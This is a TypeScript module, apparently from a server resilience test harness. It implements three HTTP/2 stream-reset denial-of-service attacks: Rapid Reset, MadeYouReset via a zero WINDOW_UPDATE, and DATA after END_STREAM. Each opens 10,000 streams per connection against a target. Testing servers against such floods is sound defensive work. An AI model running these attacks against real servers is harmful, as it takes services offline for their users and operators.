import { frame, frameFlags, frameTypes, resetFrame, windowUpdateFrame } from "../http2-frames.ts";
import { methods } from "../methods.ts";
import { openRawHttp2, type RawHttp2 } from "../raw-http2.ts";
import { type Attack, type Outcome, type Target, tally } from "../target.ts";

const connections = 2;
const streams = 10_000;
const streamsPerWrite = 100;
const deadlineMs = 10_000;
const cancel = 8;

/** Requests that the client resets immediately (Rapid Reset). */
export const rapidReset: Attack = (target) => openAndLose(target, (stream) => resetFrame(stream, cancel));

/** Requests that the server resets because of a WINDOW_UPDATE of 0 (MadeYouReset). */
export const madeYouReset: Attack = (target) => openAndLose(target, (stream) => windowUpdateFrame(stream, 0));

/** Requests that the server resets because of DATA after END_STREAM. */
export const dataAfterEnd: Attack = (target) =>
  openAndLose(target, (stream) =>
    Buffer.concat([
      frame(frameTypes.data, frameFlags.endStream, stream),
      frame(frameTypes.data, frameFlags.endStream, stream, Buffer.alloc(1)),
    ]),
  );

async function openAndLose(target: Target, lose: (stream: number) => Buffer): Promise<Outcome> {
  const attack = async () => {
    using raw = await openRawHttp2(target);
    await openAll(raw, lose);
    return await raw.ending(deadlineMs);
  };
  return tally(await Promise.all(Array.from({ length: connections }, attack)));
}

async function openAll(raw: RawHttp2, lose: (stream: number) => Buffer): Promise<void> {
  for (let first = 0; first < streams && raw.isOpen(); first += streamsPerWrite) {
    const parts: Buffer[] = [];
    for (let index = first; index < first + streamsPerWrite; index++) {
      const stream = 2 * index + 1;
      parts.push(raw.request(stream, methods.watchQuotes), lose(stream));
    }
    await raw.send(Buffer.concat(parts));
    await new Promise(setImmediate);
  }
}
